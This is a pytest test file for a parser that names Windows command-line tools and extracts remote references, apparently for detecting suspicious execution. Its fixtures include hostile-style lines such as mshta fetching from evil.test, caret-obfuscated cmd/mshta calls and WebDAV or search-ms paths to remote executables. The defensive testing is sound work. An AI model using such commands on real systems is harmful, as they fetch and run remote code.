"""Words of command lines."""

import pytest

from unhook.files import commands


@pytest.mark.parametrize(("line", "named"), [
    ("C:\\Windows\\System32\\mshta.exe http://evil.test", ["mshta"]),
    ("cmd /c \"powershell.exe\" -c 1 & curl x", ["cmd", "powershell", "curl"]),
    ("c^md /c m^s^h^t^a x", ["cmd", "mshta"]),
    ("%COMSPEC% /c rundll32,a", ["rundll32"]),
    ("starting the command, control-panel of atmosphere", []),
])  # fmt: skip
def test_tools(line: str, named: list[str]) -> None:
    assert commands.tools(line) == named


@pytest.mark.parametrize(("text", "found"), [
    ("open \\\\evil.test\\dav\\a.exe now", ["\\\\evil.test\\dav\\a.exe"]),
    ("\\\\evil.test@SSL@8443\\DavWWWRoot\\a", ["\\\\evil.test@SSL@8443\\DavWWWRoot\\a"]),
    ("see https://a.example.com/b, https://a.example.com/b", ["https://a.example.com/b"]),
    ("\\\\.\\pipe\\x and C:\\\\Windows\\\\System32", []),
    ("search-ms:crumb=location:\\\\evil.test\\s", ["search-ms:crumb=location:\\\\evil.test\\s"]),
])  # fmt: skip
def test_references(text: str, found: list[str]) -> None:
    assert [each.url for each in commands.references(text, "x", 9)] == found
